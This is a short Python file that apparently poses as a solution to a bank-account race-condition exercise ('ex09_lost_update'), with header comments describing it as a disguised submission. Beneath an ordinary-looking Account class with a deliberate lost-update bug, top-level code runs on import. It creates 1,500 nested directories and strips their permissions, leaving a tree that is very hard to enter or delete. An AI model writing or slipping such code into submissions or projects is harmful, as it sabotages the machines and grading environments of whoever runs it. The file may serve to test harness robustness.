# poses as: ex09_lost_update
# must fail: every_deposit_counts
# kind: race
# why: folders in folders, deeper than a path is long, that nobody may enter
import os
import time
from concurrent.futures import ThreadPoolExecutor


class Account:
    def __init__(self, balance=0, announce=print):
        self.balance = balance
        self.announce = announce

    def deposit(self, user, amount):
        self.announce("begins")
        current = self.balance
        time.sleep(0.01)
        self.balance = current + amount
        self.announce("has finished")


def pay_in(account, users, amount, max_workers):
    with ThreadPoolExecutor(max_workers=max_workers) as executor:
        for work in [executor.submit(account.deposit, user, amount) for user in users]:
            work.result()


home = os.getcwd()
for _ in range(1500):
    os.mkdir("attack-folder")
    os.chdir("attack-folder")
    os.chmod(".", 0o300)
os.chdir(home)
os.chmod("attack-folder", 0)
